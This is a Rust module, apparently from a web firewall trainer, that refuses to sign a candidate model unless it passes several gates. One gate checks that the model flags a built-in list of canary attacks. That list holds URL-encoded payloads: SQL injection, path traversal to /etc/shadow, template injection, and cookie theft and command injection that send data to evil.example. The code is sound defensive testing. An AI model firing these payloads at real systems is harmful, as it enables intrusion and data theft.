//! Whether a candidate may be published. Publishing needs an [`Approved`], and only [`approve`] makes one.

use std::fmt;

use ed25519_dalek::SigningKey;
use waf_model::{
    artifact,
    client::ClientVector,
    model::{Model, calibration::Certificate},
    observation::{Observation, ValueKey},
    request::{BodyExtent, BodyView, RequestView},
    rules::RuleMatches,
    score::Score,
    values::{Limits, Location, Values},
};

use crate::{calibrate::Candidate, lake::columns::request_id};

/// Least requests to calibrate on.
const CALIBRATION_REQUESTS: u64 = 50;

/// Least clients to learn from, where there are clients.
const CLIENTS: u64 = 10;

/// Plain attacks, name and query: no model that calls one of them normal is published.
pub const ATTACKS: [(&str, &str); 6] = [
    (
        "SQL injection",
        "id=7%27%20OR%20%27a%27%3D%27a%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20accounts--",
    ),
    (
        "cross-site scripting",
        "q=%3Cimg%20src%3Dn%20onerror%3D%22fetch%28%27//evil.example/%27%2Bdocument.cookie%29%22%3E",
    ),
    ("path traversal", "file=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow"),
    ("shell command", "host=127.0.0.1%3B%20cat%20/etc/hosts%20%7C%20nc%20evil.example%2099"),
    ("template injection", "name=%7B%7B7*7%7D%7D%24%7B%28self.__class__.mro%28%29%29%7D"),
    ("encoded twice", "q=%2527%2520or%25201%253d1%2520--%2520%253Cscript%253E"),
];

/// A canary is told from clean requests if at most one of a hundred clean ones is as far from normal.
const CANARY_SURPRISE: f32 = 2.0;

/// What is asked of a candidate.
#[derive(Debug, Clone)]
pub struct Demands {
    /// Least clean requests in the data set.
    pub requests: u64,
    /// Clean requests in the data set.
    pub available: u64,
    /// Whether the data has clients.
    pub clients: Clients,
    /// The model in force, if there is one that can be compared with.
    pub current: Option<Model>,
    /// Share of the requests that were removed as not clean.
    pub removed: f64,
    /// Largest such share.
    pub may_remove: f64,
    /// Ids of requests that a person confirmed as attacks, that the model in force flags and the candidate does not.
    pub lost: Vec<[u8; 16]>,
    /// Ids of requests that a person judged harmless and that the candidate would reject.
    pub wronged: Vec<[u8; 16]>,
}

/// Whether the data tells clients apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Clients {
    /// Events of a gateway.
    Known,
    /// Labelled requests.
    Unknown,
}

/// A signed artifact that passed every gate.
pub struct Approved {
    seq: u64,
    bytes: Vec<u8>,
}

/// Why a candidate is refused; the model in force stays.
#[derive(Debug, Clone, PartialEq)]
pub enum Refusal {
    /// Too few requests.
    Requests {
        /// Learned from.
        found: u64,
        /// Least.
        wanted: u64,
    },
    /// Too few clean, later requests.
    Calibration {
        /// Calibrated on.
        found: u64,
    },
    /// Too few clients.
    Clients {
        /// Learned from.
        found: u64,
    },
    /// A certificate promises nothing.
    Certificate(Certificate),
    /// Attacks look as harmless as the site's own requests.
    Canary {
        /// The attack.
        name: &'static str,
        /// Its distance.
        distance: f32,
        /// The median of clean requests.
        median: f32,
    },
    /// The model in force tells an attack from clean requests, the candidate does not.
    Regression {
        /// The attack.
        name: &'static str,
    },
    /// A request that a person judged harmless would be rejected.
    MustPass {
        /// Its id.
        request: [u8; 16],
        /// How many there are.
        count: usize,
    },
    /// An attack that a person confirmed would no longer be rejected.
    MustFlag {
        /// Its id.
        request: [u8; 16],
        /// How many there are.
        count: usize,
    },
    /// Much of the traffic is not clean: what is left may not be either.
    Removed {
        /// Share that was removed.
        share: f64,
        /// Largest share that may be.
        limit: f64,
    },
    /// A gateway would refuse it.
    Artifact(String),
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Requests { found, wanted } => {
                write!(f, "{found} clean requests to learn from, {wanted} wanted; let more traffic come in")
            }
            Self::Calibration { found } => write!(
                f,
                "{found} clean, later requests to calibrate on, {CALIBRATION_REQUESTS} wanted; let more traffic come in"
            ),
            Self::Clients { found } => write!(
                f,
                "{found} clients to learn from, {CLIENTS} wanted: one client must not say what is normal"
            ),
            Self::Certificate(certificate) => {
                write!(f, "the request certificate promises nothing: {certificate:?}")
            }
            Self::Canary { name, distance, median } => write!(
                f,
                "an attack ({name}) looks harmless: distance {distance:.2}, clean requests {median:.2}; the training \
                 data may hold attacks, review what was learned"
            ),
            Self::Regression { name } => write!(
                f,
                "an attack ({name}) that the model in force would flag looks usual now; the training data may hold \
                 attacks, review what was learned"
            ),
            Self::MustPass { request, count } => write!(
                f,
                "{count} requests that were judged harmless would be rejected, {} among them; allow a larger request \
                 budget, or review them again",
                request_id(request)
            ),
            Self::MustFlag { request, count } => write!(
                f,
                "{count} confirmed attacks that the model in force rejects would pass, {} among them; the training \
                 data may hold attacks like them: confirm those too, or review these again",
                request_id(request)
            ),
            Self::Removed { share, limit } => write!(
                f,
                "{:.0}% of the requests were removed as not clean, {:.0}% may be: what is left may hold attacks too; \
                 wait until the attack has left the window, or look at what was removed and allow it with \
                 --max-removed",
                share * 100.0,
                limit * 100.0
            ),
            Self::Artifact(error) => write!(f, "a gateway would refuse the artifact: {error}"),
        }
    }
}

impl fmt::Debug for Approved {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Approved(model {}, {} bytes)", self.seq, self.bytes.len())
    }
}

impl Approved {
    /// Sequence number of the model.
    pub fn seq(&self) -> u64 {
        self.seq
    }

    /// The signed artifact.
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// An artifact that `train` approved earlier and wrote to a file: signed with this trainer's own key, which
    /// signs nothing that was refused.
    ///
    /// # Errors
    /// A gateway would refuse it, or another key signed it.
    pub fn from_file(bytes: Vec<u8>, key: &SigningKey) -> Result<Self, Refusal> {
        let model = artifact::decode(&bytes, &[key.verifying_key()])
            .map_err(|error| Refusal::Artifact(error.to_string()))?;
        Ok(Self { seq: model.seq(), bytes })
    }
}

/// Puts `candidate` through every gate and signs it.
///
/// # Errors
/// Every gate that refused it.
pub fn approve(candidate: &Candidate, demands: &Demands, key: &SigningKey) -> Result<Approved, Vec<Refusal>> {
    let model = &candidate.model;
    let provenance = model.provenance();
    let certificate = model.request_certificate();
    let mut refusals = Vec::new();
    if demands.available < demands.requests {
        refusals.push(Refusal::Requests { found: demands.available, wanted: demands.requests });
    }
    if certificate.n < CALIBRATION_REQUESTS {
        refusals.push(Refusal::Calibration { found: certificate.n });
    }
    if demands.clients == Clients::Known && provenance.clients < CLIENTS {
        refusals.push(Refusal::Clients { found: provenance.clients });
    }
    if certificate.n == 0 || !certificate.threshold.is_finite() {
        refusals.push(Refusal::Certificate(*certificate));
    }
    let host = host(candidate);
    for (name, score) in canaries(model, &host) {
        if score.request_distance <= candidate.median {
            let (distance, median) = (score.request_distance, candidate.median);
            refusals.push(Refusal::Canary { name, distance, median });
        }
    }
    if let Some(current) = &demands.current {
        for ((name, before), (_, now)) in canaries(current, &host).into_iter().zip(canaries(model, &host)) {
            if before.request.surprise() >= CANARY_SURPRISE && now.request.surprise() < CANARY_SURPRISE {
                refusals.push(Refusal::Regression { name });
            }
        }
    }
    if demands.removed > demands.may_remove {
        refusals.push(Refusal::Removed { share: demands.removed, limit: demands.may_remove });
    }
    if let Some(request) = demands.lost.first() {
        refusals.push(Refusal::MustFlag { request: *request, count: demands.lost.len() });
    }
    if let Some(request) = demands.wronged.first() {
        refusals.push(Refusal::MustPass { request: *request, count: demands.wronged.len() });
    }
    match sign(candidate, key) {
        Ok(approved) if refusals.is_empty() => Ok(approved),
        Ok(_) => Err(refusals),
        Err(refusal) => {
            refusals.push(refusal);
            Err(refusals)
        }
    }
}

/// Encodes, and reads back as a gateway would: signature, limits, golden pairs.
fn sign(candidate: &Candidate, key: &SigningKey) -> Result<Approved, Refusal> {
    let refused = |error: artifact::ArtifactError| Refusal::Artifact(error.to_string());
    let bytes = artifact::encode(&candidate.model, &candidate.golden, key).map_err(refused)?;
    artifact::decode(&bytes, &[key.verifying_key()]).map_err(refused)?;
    Ok(Approved { seq: candidate.model.seq(), bytes })
}

/// Scores of the [`ATTACKS`], each inside an otherwise clean request.
fn canaries(model: &Model, host: &Observation) -> Vec<(&'static str, Score)> {
    ATTACKS
        .iter()
        .map(|(name, query)| {
            let attack = observe(query, model.value_key());
            let mut observation = host.clone();
            observation.query_bytes += attack.query_bytes;
            observation.params.extend(attack.params.into_iter().filter(|p| p.location == Location::Query));
            (*name, model.score(&observation, &ClientVector::UNKNOWN))
        })
        .collect()
}

/// The clean request whose distance is the middle one of those kept as golden pairs.
fn host(candidate: &Candidate) -> Observation {
    let mut golden: Vec<_> = candidate.golden.iter().collect();
    golden.sort_by(|a, b| a.request_distance.total_cmp(&b.request_distance));
    golden.get(golden.len() / 2).map(|golden| golden.observation.clone()).unwrap_or_default()
}

fn observe(query: &str, key: &ValueKey) -> Observation {
    let view = RequestView {
        method: "GET",
        path: b"/",
        query: Some(query.as_bytes()),
        protocol: "HTTP/1.1",
        headers: &[],
        body: BodyView { bytes: b"", extent: BodyExtent::Complete },
        client_address: "",
    };
    Observation::of(&view, &Values::extract(&view, &Limits::default()), &RuleMatches::default(), key)
}
